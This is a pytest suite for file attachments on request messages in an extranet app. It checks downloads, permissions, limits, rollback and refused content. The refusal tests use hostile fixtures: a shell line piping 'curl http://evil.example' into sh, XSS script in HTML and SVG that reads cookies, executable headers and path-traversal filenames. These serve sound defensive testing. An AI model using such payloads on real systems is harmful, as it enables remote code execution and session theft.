"""Files attached to request messages, end to end: upload with a message (plain form and
HTMX), download with its headers, permissions, refused content, limits and failures."""

from __future__ import annotations

import hashlib
import io
import logging
import re
from urllib.parse import quote

import pytest

from extranet.testing import csrf_token
from tests.sample_plugin import SamplePlugin
from tests.test_storage import docx, odt, ole, xlsx

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89" + b"\0" * 20
CSV = "Nom;Montant\nÉtienne;12,50\n".encode()
LINK_RE = re.compile(r'href="(/requests/[^"]+/attachments/(\d+))"')


@pytest.fixture
def app(register_plugin, storage_root):
    """The sample field, storage in a temporary folder. ``people`` (built on this app)
    subscribes organizations A and B to the sample field and makes the expert its expert."""
    return register_plugin(SamplePlugin(), STORAGE_URL=f"file://{storage_root}")


@pytest.fixture
def english(app, people):
    """Everyone reads English, so messages are checked against their msgids."""
    from extranet.accounts.models import User
    from extranet.extensions import db

    with app.app_context():
        db.session.execute(db.update(User).values(locale="en"))
        db.session.commit()
    return people


def stored_files(root):
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def counts(app):
    from extranet.extensions import db
    from extranet.requests.models import Attachment, Message

    with app.app_context():
        return (
            db.session.scalar(db.select(db.func.count()).select_from(Message)),
            db.session.scalar(db.select(db.func.count()).select_from(Attachment)),
        )


def attachment_rows(app):
    from extranet.extensions import db
    from extranet.requests.models import Attachment

    with app.app_context():
        return [
            {"id": a.id, "filename": a.filename, "mime": a.mime, "size": a.size, "sha256": a.sha256,
             "key": a.storage_key, "message": a.message_id}
            for a in db.session.scalars(db.select(Attachment).order_by(Attachment.id))
        ]


def file_request(client) -> str:
    response = client.post(
        "/requests/new/sample/question",
        data={"title": "Une question", "description": "Détails", "topic": "general", "priority": "normal",
              "csrf_token": csrf_token(client, "/requests/")},
    )
    assert response.status_code == 303, response.get_data(as_text=True)[:1000]
    return response.location.rstrip("/").split("/")[-1]


def send(client, reference, body="Voici les documents", files=(), htmx=False, internal=False, token=None):
    """Post a message with ``files`` (pairs of bytes and file name, or triples with a
    browser-declared content type); ``token``, the session's CSRF token read beforehand, for a
    test in which reading it now would reach a database it has broken."""
    data = {"body": body, "csrf_token": token or csrf_token(client, "/requests/")}
    if internal:
        data["internal"] = "y"
    data["files"] = [(io.BytesIO(f[0]), *f[1:]) for f in files]
    headers = {"HX-Request": "true"} if htmx else {}
    return client.post(f"/requests/{reference}/messages", data=data, headers=headers,
                       content_type="multipart/form-data")


def links(html: str) -> list[str]:
    return [m.group(1) for m in LINK_RE.finditer(html)]


# -- upload and download ----------------------------------------------------------------------


def test_several_files_with_a_message_and_their_download(app, client_for, english, storage_root):
    member = client_for(app, english.member_a)
    reference = file_request(member)
    files = [
        (PDF, "Résumé été 2026.pdf"),
        (PNG, "photo.pdf", "application/pdf"),  # the name and the browser lie: the bytes decide
        (CSV, "montants.csv"),
        (docx(), "lettre.docx"),
    ]
    response = send(member, reference, files=files)
    assert response.status_code == 303
    assert response.location.endswith(f"/requests/{reference}#conversation")

    rows = attachment_rows(app)
    assert [r["filename"] for r in rows] == ["Résumé été 2026.pdf", "photo.pdf", "montants.csv", "lettre.docx"]
    assert [r["mime"] for r in rows] == [
        "application/pdf", "image/png", "text/plain; charset=utf-8",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ]
    assert len({r["message"] for r in rows}) == 1
    for row, (data, *_rest) in zip(rows, files, strict=True):
        assert row["size"] == len(data) and row["sha256"] == hashlib.sha256(data).hexdigest()
    # Objects live under server-made keys, never under the user's names.
    on_disk = stored_files(storage_root)
    assert sorted(p.name for p in on_disk) == sorted(r["key"] for r in rows)
    assert all(re.fullmatch(r"[0-9a-f]{32}", p.name) for p in on_disk)

    page = member.get(f"/requests/{reference}").get_data(as_text=True)
    # The message's four files, and the same four in the documents card the page holds.
    urls = links(page[:page.index('id="panel-documents"')])
    assert len(urls) == 4 and "Résumé été 2026.pdf" in page
    assert links(page[page.index('id="panel-documents"'):]) == urls
    assert 'name="files"' in page and "multiple" in page and 'hx-encoding="multipart/form-data"' in page

    download = member.get(urls[0])
    assert download.status_code == 200
    assert download.get_data() == PDF
    assert download.headers["Content-Type"] == "application/pdf"
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert download.headers["Cache-Control"] == "private, no-store"
    disposition = download.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"filename*=UTF-8''{quote('Résumé été 2026.pdf')}" in disposition
    assert "Resume ete 2026.pdf" in disposition  # the ASCII fallback
    assert int(download.headers["Content-Length"]) == len(PDF)

    png = member.get(urls[1])
    assert png.get_data() == PNG and png.headers["Content-Type"] == "image/png"
    csv = member.get(urls[2])
    assert csv.get_data() == CSV and csv.headers["Content-Type"].startswith("text/plain")
    assert member.get(urls[3]).get_data() == files[3][0]

    # Colleagues of the same organization see the conversation, and so its files.
    manager = client_for(app, english.manager_a)
    assert manager.get(urls[0]).get_data() == PDF
    assert client_for(app, english.expert).get(urls[0]).get_data() == PDF


def test_htmx_upload_returns_the_conversation_with_the_files(app, client_for, english):
    member = client_for(app, english.member_a)
    reference = file_request(member)
    response = send(member, reference, files=[(xlsx(), "budget.xlsx"), (odt(), "note.odt"),
                                              (ole("WordDocument"), "ancien.doc")], htmx=True)
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "<html" not in html and html.lstrip().startswith('<section class="card" id="conversation"')
    assert "budget.xlsx" in html and "note.odt" in html and "ancien.doc" in html
    assert len(links(html)) == 3
    assert [r["mime"] for r in attachment_rows(app)] == [
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "application/vnd.oasis.opendocument.text",
        "application/msword",
    ]


def test_a_message_without_files_still_works(app, client_for, english, storage_root):
    member = client_for(app, english.member_a)
    reference = file_request(member)
    # A browser sends one empty part when no file is chosen.
    response = send(member, reference, files=[(b"", "")])
    assert response.status_code == 303
    assert counts(app) == (1, 0) and stored_files(storage_root) == []


def test_a_file_in_the_conversation_tells_its_size_in_the_reader_s_language(app, client_for, people):
    from extranet.accounts.models import User
    from extranet.extensions import db

    with app.app_context():
        db.session.get(User, people.member_a.id).locale = "fr_CA"
        db.session.commit()
    member = client_for(app, people.member_a)
    reference = file_request(member)
    send(member, reference, files=[(PDF, "devis.pdf"), (b"Poste;Montant\n" * 108, "postes.csv")])
    page = member.get(f"/requests/{reference}").get_data(as_text=True)
    conversation = page[page.index('id="conversation"'):page.index('id="panel-documents"')]
    # What the reader reads, not the markup: a form's random CSRF token may well hold "kB".
    conversation = re.sub(r"<[^>]*>", " ", conversation)
    assert f"({len(PDF)}\u00a0octets)" in conversation or f"({len(PDF)} octets)" in conversation
    assert "1,5\u00a0ko" in conversation or "1,5 ko" in conversation
    assert "Bytes" not in conversation and "kB" not in conversation


# -- permissions ------------------------------------------------------------------------------


def test_another_organization_gets_404(app, client_for, english):
    member_a = client_for(app, english.member_a)
    reference_a = file_request(member_a)
    assert send(member_a, reference_a, files=[(PDF, "contrat.pdf")]).status_code == 303
    url = links(member_a.get(f"/requests/{reference_a}").get_data(as_text=True))[0]
    attachment_id = url.rsplit("/", 1)[-1]

    member_b = client_for(app, english.member_b)
    reference_b = file_request(member_b)
    assert member_b.get(url).status_code == 404
    # Their own request's reference with org A's attachment id: still 404.
    response = member_b.get(f"/requests/{reference_b}/attachments/{attachment_id}")
    assert response.status_code == 404 and PDF not in response.get_data()
    assert client_for(app, english.manager_b).get(url).status_code == 404
    # The right file under another request's URL is refused too, even to its owner.
    assert send(member_b, reference_b, files=[(PNG, "b.png")]).status_code == 303
    b_id = links(member_b.get(f"/requests/{reference_b}").get_data(as_text=True))[0].rsplit("/", 1)[-1]
    assert member_a.get(f"/requests/{reference_a}/attachments/{b_id}").status_code == 404
    assert member_a.get(f"/requests/{reference_a}/attachments/999999").status_code == 404
    assert member_a.get(f"/requests/NOPE-2026-0001/attachments/{attachment_id}").status_code == 404
    # Logged out: to the login page, never the file.
    anonymous = app.test_client().get(url)
    assert anonymous.status_code in (302, 303) and "/login" in anonymous.location


def test_internal_note_files_are_for_staff_only(app, client_for, english):
    member = client_for(app, english.member_a)
    reference = file_request(member)
    expert = client_for(app, english.expert)
    response = send(expert, reference, body="Note interne", files=[(PDF, "analyse-interne.pdf")], internal=True)
    assert response.status_code == 303
    (row,) = attachment_rows(app)
    url = f"/requests/{reference}/attachments/{row['id']}"

    assert expert.get(url).status_code == 200 and expert.get(url).get_data() == PDF
    assert url in expert.get(f"/requests/{reference}").get_data(as_text=True)
    page = member.get(f"/requests/{reference}").get_data(as_text=True)
    assert "analyse-interne.pdf" not in page and url not in page
    assert member.get(url).status_code == 404
    assert client_for(app, english.manager_a).get(url).status_code == 404


# -- refused content --------------------------------------------------------------------------

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00"


@pytest.mark.parametrize(
    ("data", "name", "declared", "expected"),
    [
        (b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>", "facture.pdf",
         "application/pdf", "facture.pdf is a web page or an SVG image"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>', "logo.png",
         "image/png", "logo.png is a web page or an SVG image"),
        (EXE, "rapport.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
         "rapport.docx is a program or a script"),
        (b"#!/bin/sh\ncurl http://evil.example | sh\n", "notes.txt", "text/plain",
         "notes.txt is a program or a script"),
        (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56, "data.csv", "text/csv", "data.csv is a program or a script"),
        (b"PK\x03\x04" + b"\x00" * 40, "archive.zip", "application/zip", "archive.zip is not an accepted type"),
        (b"", "vide.txt", "text/plain", "vide.txt is empty"),
    ],
)
def test_malicious_or_unknown_files_are_refused(app, client_for, english, storage_root, data, name, declared, expected):
    member = client_for(app, english.member_a)
    reference = file_request(member)
    for htmx in (False, True):
        response = send(member, reference, body="Pièce jointe", files=[(data, name, declared)], htmx=htmx)
        assert response.status_code == 422
        html = response.get_data(as_text=True)
        assert expected in html
        assert 'id="message-files-error"' in html and 'aria-invalid="true"' in html
        assert "Pièce jointe" in html  # what the user typed is kept
        assert ("<html" in html) is not htmx
    assert counts(app) == (0, 0)
    assert stored_files(storage_root) == []


def test_one_bad_file_refuses_the_whole_message(app, client_for, english, storage_root):
    member = client_for(app, english.member_a)
    reference = file_request(member)
    response = send(member, reference, files=[(PDF, "bon.pdf"), (PNG, "bon.png"), (EXE, "setup.pdf")])
    assert response.status_code == 422 and "setup.pdf is a program or a script" in response.get_data(as_text=True)
    assert counts(app) == (0, 0)
    assert stored_files(storage_root) == []


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("....//....//secret.txt", "secret.txt"),
        ("/absolute/path/..hidden.txt", "hidden.txt"),
        ("bad\x01name\x7f<b>.txt", "bad_name_b_.txt"),
    ],
)
def test_path_traversal_names_are_stored_harmlessly(app, client_for, english, storage_root, tmp_path, name, shown):
    member = client_for(app, english.member_a)
    reference = file_request(member)
    assert send(member, reference, files=[(b"root:x:0:0\n", name)]).status_code == 303
    (row,) = attachment_rows(app)
    assert row["filename"] == shown
    (path,) = stored_files(storage_root)
    assert path == storage_root / row["key"][:2] / row["key"][2:4] / row["key"]
    assert not (tmp_path / "etc").exists() and not (storage_root.parent / "etc").exists()
    page = member.get(f"/requests/{reference}").get_data(as_text=True)
    assert shown in page and "../" not in page and "<b>.txt" not in page
    download = member.get(links(page)[0])
    assert download.get_data() == b"root:x:0:0\n"
    assert "/" not in download.headers["Content-Disposition"].split("filename", 1)[1]


# -- limits and failures ----------------------------------------------------------------------


def test_size_limit(register_plugin, app, client_for, english, storage_root):
    small = register_plugin(SamplePlugin(), STORAGE_URL=f"file://{storage_root}", MAX_UPLOAD_BYTES=1000)
    member = client_for(small, english.member_a)
    reference = file_request(member)
    assert "up to 1 kB per file" in member.get(f"/requests/{reference}").get_data(as_text=True)

    response = send(member, reference, files=[(b"x" * 1001, "gros.txt")])
    assert response.status_code == 422
    assert "gros.txt is larger than the limit of 1 kB per file." in response.get_data(as_text=True)
    assert counts(small) == (0, 0) and stored_files(storage_root) == []

    response = send(member, reference, files=[(PDF, "petit.pdf"), (b"y" * 5000, "gros.csv")], htmx=True)
    assert response.status_code == 422 and "gros.csv is larger" in response.get_data(as_text=True)
    assert counts(small) == (0, 0) and stored_files(storage_root) == []

    assert send(member, reference, files=[(b"z" * 1000, "juste.txt")]).status_code == 303
    assert counts(small) == (1, 1) and len(stored_files(storage_root)) == 1


def test_a_storage_failure_mid_way_leaves_nothing(app, client_for, english, storage_root, monkeypatch):
    from extranet.storage.local import LocalStorage

    member = client_for(app, english.member_a)
    reference = file_request(member)
    writes = []

    def failing_write(self, handle, chunk):
        writes.append(len(chunk))
        if len(writes) == 3:  # the second chunk of the second file
            raise OSError(28, "No space left on device")
        handle.write(chunk)

    monkeypatch.setattr(LocalStorage, "_write", failing_write)
    first = b"a" * (1024 * 1024 + 10)
    second = b"b" * (1024 * 1024 + 10)
    response = send(member, reference, files=[(first, "un.txt"), (second, "deux.txt")])
    assert len(writes) == 3
    assert response.status_code == 422
    assert "deux.txt could not be saved" in response.get_data(as_text=True)
    assert counts(app) == (0, 0)
    assert stored_files(storage_root) == []


def test_a_failing_commit_leaves_no_file_and_no_row(app, client_for, english, storage_root, monkeypatch,
                                                    break_commit):
    member = client_for(app, english.member_a)
    reference = file_request(member)
    token = csrf_token(member, "/requests/")
    seen_on_disk = break_commit(lambda: len(stored_files(storage_root)))
    with pytest.raises(RuntimeError, match="went away"):
        send(member, reference, body="Avec pièces", files=[(PDF, "a.pdf"), (PNG, "b.png")], token=token)
    monkeypatch.undo()
    assert seen_on_disk == [2]  # the files were written before the commit...
    assert stored_files(storage_root) == []  # ...and removed after it failed
    assert counts(app) == (0, 0)


def test_a_tampered_file_is_refused_at_download(app, client_for, english, storage_root, caplog):
    member = client_for(app, english.member_a)
    reference = file_request(member)
    secret = b"%PDF-1.4\nthe original contract\n%%EOF\n"
    assert send(member, reference, files=[(secret, "contrat.pdf")]).status_code == 303
    (row,) = attachment_rows(app)
    (path,) = stored_files(storage_root)
    url = f"/requests/{reference}/attachments/{row['id']}"
    assert member.get(url).get_data() == secret

    tampered = secret.replace(b"original", b"forged!!")
    assert len(tampered) == len(secret)
    path.write_bytes(tampered)
    with caplog.at_level(logging.ERROR, logger="extranet.files.downloads"):
        response = member.get(url)
    assert response.status_code == 500
    body = response.get_data()
    assert b"forged" not in body and b"original" not in body
    assert "attachment" not in response.headers.get("Content-Disposition", "")
    assert any("does not match its sha256" in r.getMessage() and row["key"] in r.getMessage() for r in caplog.records)

    path.unlink()
    with caplog.at_level(logging.ERROR, logger="extranet.files.downloads"):
        assert member.get(url).status_code == 500
    assert any("is missing" in r.getMessage() for r in caplog.records)


def test_sanitize_filename(app):
    from extranet.files.names import sanitize_filename

    with app.test_request_context(headers={"Accept-Language": "en"}):
        assert sanitize_filename("../../etc/passwd") == "passwd"
        assert sanitize_filename("C:\\Users\\x\\doc.pdf") == "doc.pdf"
        assert sanitize_filename("  ...  .env") == "env"
        assert sanitize_filename("") == sanitize_filename("../") == sanitize_filename(None) == "file"
        assert sanitize_filename("Re\u0301sume\u0301.pdf") == "Résumé.pdf"  # NFC
        long = sanitize_filename("a" * 500 + ".pdf")
        assert len(long) == 200 and long.endswith(".pdf")
